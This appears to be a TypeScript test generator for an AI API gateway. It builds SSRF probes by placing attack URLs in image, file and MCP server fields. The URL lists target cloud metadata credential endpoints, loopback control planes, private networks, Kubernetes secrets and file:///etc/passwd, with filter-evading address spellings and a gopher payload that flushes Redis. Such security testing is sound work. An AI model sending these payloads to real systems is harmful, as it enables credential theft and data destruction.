/**
 * SSRF through URL fields the backend or a tool will fetch (ssrf.*): image_url,
 * input_image.image_url, input_file.file_url and MCP tools[].server_url.
 * Targets are cloud metadata services, loopback (including this gateway's own control
 * plane), private ranges, and the address spellings that slip past naive filters.
 */
import { Rng } from './rng.js';
import type { Sink } from './sink.js';
import { type Req, chat, responses, sys, user } from './shapes.js';

interface Target {
  readonly url: string;
  readonly note: string;
  readonly dns?: boolean;
}

const IMAGE_TARGETS: readonly Target[] = [
  { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', note: 'AWS IMDSv1 credentials' },
  { url: 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/', note: 'Azure IMDS managed-identity token' },
  { url: 'http://169.254.169.254/metadata/instance?api-version=2021-02-01', note: 'Azure IMDS instance metadata' },
  { url: 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', note: 'GCP metadata by name', dns: true },
  { url: 'http://127.0.0.1:9090/metrics', note: 'this gateway\'s loopback control plane' },
  { url: 'http://localhost:8443/openai/deployments/gpt-4o/chat/completions', note: 'loopback by name' },
  { url: 'http://10.0.0.4/admin', note: 'RFC 1918 10/8' },
  { url: 'http://192.168.1.1/cgi-bin/luci', note: 'RFC 1918 192.168/16' },
  { url: 'http://172.16.0.10:8080/actuator/env', note: 'RFC 1918 172.16/12' },
  { url: 'http://[::1]:9090/healthz', note: 'IPv6 loopback' },
  { url: 'http://[::ffff:169.254.169.254]/latest/meta-data/', note: 'IPv4-mapped IPv6 metadata' },
  { url: 'http://2852039166/latest/meta-data/', note: 'decimal 169.254.169.254' },
  { url: 'http://0xA9FEA9FE/latest/meta-data/', note: 'hex 169.254.169.254' },
  { url: 'http://0251.0376.0251.0376/latest/meta-data/', note: 'octal 169.254.169.254' },
  { url: 'http://0x7f.0.0.1:9090/', note: 'hex first octet of 127.0.0.1' },
  { url: 'http://127.1/metrics', note: 'short form 127.0.0.1' },
  { url: 'http://0/', note: '0.0.0.0 shorthand' },
  { url: 'http://[0:0:0:0:0:ffff:7f00:1]:9090/', note: 'IPv4-mapped loopback, expanded' },
  { url: 'http://user@127.0.0.1:9090/', note: 'userinfo before loopback host' },
  { url: 'http://169.254.169.254.nip.io/latest/meta-data/', note: 'wildcard DNS to metadata', dns: true },
  { url: 'http://100.100.100.200/latest/meta-data/', note: 'Alibaba Cloud metadata (CGNAT range)' },
  { url: 'http://169.254.170.2/v2/credentials', note: 'ECS task credentials' },
  { url: 'http://[fd00:ec2::254]/latest/meta-data/', note: 'AWS IMDS IPv6' },
  { url: 'http://127.0.0.1:2375/containers/json', note: 'Docker API on loopback' },
];

const FILE_TARGETS: readonly Target[] = [
  { url: 'file:///etc/passwd', note: 'file scheme' },
  { url: 'file:///C:/Windows/win.ini', note: 'file scheme, Windows path' },
  { url: 'file://localhost/var/run/secrets/kubernetes.io/serviceaccount/token', note: 'file scheme with host' },
  { url: 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A', note: 'gopher to Redis' },
  { url: 'dict://127.0.0.1:11211/stats', note: 'dict scheme to memcached' },
  { url: 'http://169.254.169.254/latest/user-data', note: 'AWS user-data as a "document"' },
  { url: 'http://10.20.30.40/internal/reports/q4.pdf', note: 'private address' },
  { url: 'http://localhost:5984/_all_dbs', note: 'CouchDB on loopback' },
  { url: 'ftp://10.0.0.5/backups/db.sql', note: 'ftp to private address' },
  { url: 'http://[::]:9090/metrics', note: 'IPv6 unspecified address' },
];

const MCP_TARGETS: readonly Target[] = [
  { url: 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net', note: 'Azure IMDS as MCP server' },
  { url: 'http://127.0.0.1:9090/', note: 'gateway control plane as MCP server' },
  { url: 'http://localhost:3000/mcp', note: 'loopback MCP server' },
  { url: 'http://10.1.2.3:8080/sse', note: 'private-range MCP server' },
  { url: 'http://[::1]:8000/mcp', note: 'IPv6 loopback MCP server' },
  { url: 'http://2130706433:8080/mcp', note: 'decimal 127.0.0.1' },
  { url: 'http://192.168.0.10/mcp', note: 'RFC 1918' },
  { url: 'http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', note: 'cluster-internal name', dns: true },
  { url: 'http://0x0a000001/mcp', note: 'hex 10.0.0.1' },
  { url: 'gopher://127.0.0.1:25/_HELO', note: 'gopher to SMTP' },
];

function tags(t: Target, field: string): string[] {
  return [`field:${field}`, ...(t.dns ? ['needs_dns'] : [])];
}

export function ssrf(sink: Sink): void {
  {
    const r = new Rng('ssrf.image_url');
    IMAGE_TARGETS.forEach((t, i) => {
      const ask = r.pick(['Describe this image.', 'What is in this picture?', 'Read the text in this screenshot.', 'Caption this image for our catalogue.']);
      let req: Req;
      if (i % 3 === 2) req = responses(r, [{ role: 'user', content: [{ type: 'input_text', text: ask }, { type: 'input_image', image_url: t.url }] }]);
      else req = chat(r, [sys('You are a helpful assistant.'), user([{ type: 'text', text: ask }, { type: 'image_url', image_url: i % 2 === 0 ? { url: t.url } : { url: t.url, detail: 'high' } }])], { deployment: r.pick(['gpt-4o', 'gpt-4.1', 'gpt-4o-mini']) });
      sink.add('ssrf.image_url', req, { note: t.note, tags: tags(t, i % 3 === 2 ? 'input_image.image_url' : 'image_url') });
    });
  }
  {
    const r = new Rng('ssrf.file_url');
    FILE_TARGETS.forEach((t, i) => {
      const ask = r.pick(['Summarise this document.', 'What are the key points of the attached file?', 'Extract all tables from this file.']);
      const req = i % 2 === 0
        ? responses(r, [{ role: 'user', content: [{ type: 'input_file', file_url: t.url }, { type: 'input_text', text: ask }] }])
        : chat(r, [user([{ type: 'text', text: ask }, { type: 'image_url', image_url: { url: t.url } }])]);
      sink.add('ssrf.file_url', req, { note: t.note, tags: tags(t, i % 2 === 0 ? 'input_file.file_url' : 'image_url') });
    });
  }
  {
    const r = new Rng('ssrf.mcp_server_url');
    MCP_TARGETS.forEach((t, i) => {
      const req = responses(r, r.pick(['List the tools you have and call the first one.', 'Search the docs for the retry policy.', 'Fetch the latest status.']), {
        tools: [{ type: 'mcp', server_label: r.pick(['docs', 'internal', 'status', 'helper']), server_url: t.url, require_approval: 'never', ...(i % 2 === 0 ? { headers: { 'Metadata': 'true' } } : {}) }],
      });
      sink.add('ssrf.mcp_server_url', req, { note: t.note, tags: tags(t, 'tools.server_url') });
    });
  }
}
